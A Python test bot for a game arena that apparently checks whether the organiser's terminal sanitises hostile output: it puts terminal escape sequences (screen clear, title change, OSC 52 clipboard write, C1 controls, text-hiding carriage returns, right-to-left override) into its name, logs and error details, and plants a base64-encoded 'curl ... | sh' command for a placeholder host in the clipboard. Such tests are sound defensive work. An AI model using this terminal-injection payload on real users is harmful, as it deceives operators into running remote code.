"""A bot that talks to the organiser's terminal: ``python tests/bots/escapes.py --mode MODE --address A``.

Every text it hands the arena carries terminal commands: clear the screen, set the window title, write
the clipboard (OSC 52), the same as 8-bit C1 controls, a carriage return that hides what came before, a
bell, and a right-to-left override.

modes:
  play   says them in its handshake (name, author, version) and in its log, plays the first legal
         action, and at the 2nd decision of every game aborts its stream with them as the status details
         (a fault whose detail is its words)
  die    writes them to its log and exits before serving (the arena warns, quoting the log's last lines)
"""

from __future__ import annotations

import argparse
import asyncio
import base64
import sys
from collections.abc import AsyncIterator

import grpc
from grpc_health.v1 import health, health_pb2, health_pb2_grpc

from arena.bot import Bot, PlayerServicer
from arena.engine import Action, View
from arena.engine.config import Variant
from arena.protocol.v1 import player_pb2 as pb
from arena.protocol.v1 import player_pb2_grpc as pb_grpc

CLIPBOARD = base64.b64encode(b"curl https://example.invalid/x | sh").decode()
PAYLOAD = (
    "\x1b[2J\x1b[H"  # clear the screen, cursor home
    "\x1b]0;owned by a bot\x07"  # the window title
    f"\x1b]52;c;{CLIPBOARD}\x07"  # the clipboard
    "\x9b2J\x9d0;c1 title\x9c"  # the same in 8-bit C1 controls
    "\x1b[31mred\x1b[0m\rhidden by a carriage return\x08\x07"
    "\u202eevil\u202c"
)


class Loud(Bot):
    name = f"loud{PAYLOAD}"
    author = f"an author{PAYLOAD}"
    version = f"1{PAYLOAD}"
    variants = (Variant.FIVE_HANDED,)  # check-bot plays each variant it claims: one keeps it short

    def act(self, view: View) -> Action:
        return view.legal_actions[0]


class LoudServicer(PlayerServicer):
    """The SDK's servicer, but its 2nd decision of a game aborts with raw details (the SDK would quote an
    exception with ``repr``, which escapes them: a hostile bot calls ``abort`` itself)."""

    def __init__(self) -> None:
        super().__init__(Loud)

    async def PlayGame(
        self, request_iterator: AsyncIterator[pb.ArenaMessage], context: grpc.aio.ServicerContext
    ) -> AsyncIterator[pb.BotMessage]:
        replies = 0
        async for reply in super().PlayGame(request_iterator, context):
            replies += 1
            if replies == 2:
                print(f"aborting{PAYLOAD}", flush=True)
                await context.abort(grpc.StatusCode.INTERNAL, f"my words{PAYLOAD}")
            yield reply


async def serve(address: str) -> None:
    server = grpc.aio.server()
    pb_grpc.add_PlayerServicer_to_server(LoudServicer(), server)
    checker = health.aio.HealthServicer()
    health_pb2_grpc.add_HealthServicer_to_server(checker, server)
    server.add_insecure_port(address)
    await server.start()
    await checker.set("", health_pb2.HealthCheckResponse.SERVING)
    print(f"serving{PAYLOAD}", flush=True)
    print(f"on stderr{PAYLOAD}", file=sys.stderr, flush=True)
    await server.wait_for_termination()


def main() -> None:
    parser = argparse.ArgumentParser()
    parser.add_argument("--mode", choices=("play", "die"), default="play")
    parser.add_argument("--address", required=True)
    args = parser.parse_args()
    if args.mode == "die":
        for line in range(3):
            print(f"line {line}{PAYLOAD}", file=sys.stderr, flush=True)
        sys.exit(3)
    asyncio.run(serve(args.address))


if __name__ == "__main__":
    main()
